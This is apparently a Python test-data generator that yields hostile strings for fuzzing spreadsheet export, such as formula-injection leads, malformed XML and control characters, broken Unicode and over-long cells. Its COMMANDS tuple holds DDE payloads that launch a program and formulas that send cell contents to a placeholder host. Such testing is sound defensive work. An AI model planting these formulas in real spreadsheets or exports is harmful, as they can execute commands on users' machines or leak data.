"""Texts that hurt spreadsheets: formulas, commands, markup, control characters, broken Unicode, lengths. Always the same."""

import random
from collections.abc import Iterator

LEADS = (
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    " ",
    "\u3000",
    "'",
    '"',
    "",
    "＝",
    "﹦",
    "\ufeff",
    "\x00=",
    "\r\n=",
    "\x0b=",
)
COMMANDS = (
    "1+1",
    "SUM(A1:A9)",
    'HYPERLINK("http://example.invalid/?"&A1,"点我")',
    "cmd|'/c calc'!A0",
    'DDE("cmd";"/c calc";"x")',
    'WEBSERVICE("http://example.invalid/"&H4)',
    'IMPORTXML("http://example.invalid","//a")',
    "8012",
    "86 755 8234 5678",
    "@SUM(1)",
    "{1,2;3,4}",
    "'[别的表.xlsx]台账'!$A$1",
)
PLAIN = (
    "<b>粗</b>", "&amp;", "&#x3D;1", "]]>", "<![CDATA[x]]>", "<!-- -->", "</t></is></c>", "<?xml?>", "<f>1+1</f>",
    "_x000D_", "a_x0041_b", "_x005F_x000D_", "_X000d_", "_x_", "%s %d %(x)s {0} {x}", "${7*7}", "\\u003d1", "┊", "\x00",
    "bell\x07", "esc\x1b[31m", "del\x7f", "c1\x85\x9f", "\ud800", "a\udfffb", "\ufffe", "\uffff", "\U0001ffff", "\u2028行\u2029",
    "first\r\nsecond\rthird\nfourth", "\n", "\r", "\t", "   ", " 边 ", "\u3000全角\u3000", "\u200b零宽\u200b", "\u202e右到左",
    "𠮷野家", "👨‍👩‍👧", "e\u0301\u0301\u0301", "﷽" * 40, "00123456789012345678", "1E5", "1/2", "2026-11-23", "08:05", "TRUE",
    "#REF!", "长" * 32_767, "长" * 32_768, "𠮷" * 16_384, "a" * 40_000, "&" * 9_000, "\n" * 300, "=" * 33_000, "x" * 32_766 + "𠮷",
)  # fmt: skip
_LONG = 400
"""A text of more characters is long: rows full of such texts would be hundreds of megabytes, so they are few."""


def hostile_texts(count: int) -> Iterator[str]:
    """`count` of them: every lead with every command, every plain one, then mixtures and random characters."""
    chance = random.Random(20_261_128)
    known = [*PLAIN, *(lead + command for lead in LEADS for command in COMMANDS)]
    yield from known[:count]
    short = [text for text in known if len(text) <= _LONG]
    for number in range(count - len(known)):
        if number % 3 == 0:
            yield chance.choice(LEADS) + "".join(chance.choices(short, k=chance.randrange(1, 4)))
        elif number % 3 == 1:
            yield "".join(chr(_character(chance)) for _ in range(chance.randrange(1, 24)))
        else:
            at = chance.randrange(8)
            text = chance.choice(short)
            yield text[:at] + chr(_character(chance)) + text[at:]


def _character(chance: random.Random) -> int:
    """Any code point, those that make trouble more often than others."""
    ranges = (
        (0, 0x20),
        (0x20, 0x80),
        (0x80, 0xA0),
        (0x3000, 0x3040),
        (0x4E00, 0x9FFF),
        (0xD800, 0xE000),
        (0xFFF0, 0x10000),
    )
    low, high = chance.choice((*ranges, (0, 0x110000)))
    return chance.randrange(low, high)
